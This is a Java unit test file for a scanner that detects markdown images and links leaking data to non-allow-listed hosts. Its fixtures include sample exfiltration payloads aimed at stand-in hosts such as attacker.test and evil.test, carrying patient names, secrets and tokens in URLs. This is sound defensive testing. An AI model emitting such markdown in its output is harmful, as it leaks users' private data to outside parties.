package dev.bastion.guard.exfiltration;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bastion.guard.Finding;
import java.util.List;
import org.junit.jupiter.api.Test;

class ExfiltrationScannerTest {
    private final ExfiltrationScanner scanner = new ExfiltrationScanner(List.of("example.com"));

    private List<String> types(String text) {
        return scanner.scan(List.of(text)).stream().map(Finding::type).toList();
    }

    @Test
    void imagesToUnlistedHostsAreFoundWithTheirSpan() {
        String text = "Done. ![status](https://attacker.test/pixel.png?d=patient%20smith) Bye";
        List<Finding> found = scanner.scan(List.of(text));
        assertThat(found).singleElement().satisfies(f -> {
            assertThat(f.type()).isEqualTo(ExfiltrationScanner.IMAGE);
            assertThat(text.substring(f.start(), f.end())).startsWith("![status](").endsWith(")");
        });
        assertThat(types("![](//evil.test/x.png)")).containsExactly(ExfiltrationScanner.IMAGE);
        assertThat(types("![a](<https://evil.test/a b.png>)")).isNotEmpty();
    }

    @Test
    void linksCarryingDataToUnlistedHostsAreFoundButPlainLinksAreNot() {
        assertThat(types("see [here](https://evil.test/collect?q=secret)")).containsExactly(ExfiltrationScanner.LINK);
        assertThat(types("see [here](https://evil.test/page#token=abc)")).containsExactly(ExfiltrationScanner.LINK);
        assertThat(types("see [docs](https://evil.test/docs/guide)")).isEmpty();
        assertThat(types("[1]: https://evil.test/c?x=1")).containsExactly(ExfiltrationScanner.LINK);
    }

    @Test
    void allowListedHostsAndTheirSubdomainsRelativeAndNonHttpLinksPass() {
        assertThat(types("![chart](https://example.com/chart.png?id=4)")).isEmpty();
        assertThat(types("![chart](https://cdn.example.com/c.png?id=4)")).isEmpty();
        assertThat(types("![chart](https://notexample.com/c.png)")).containsExactly(ExfiltrationScanner.IMAGE);
        assertThat(types("![local](images/a.png) [mail](mailto:a@b.c?subject=x)")).isEmpty();
        assertThat(types("no markdown here, just https://evil.test/?q=1 as text")).isEmpty();
    }
}
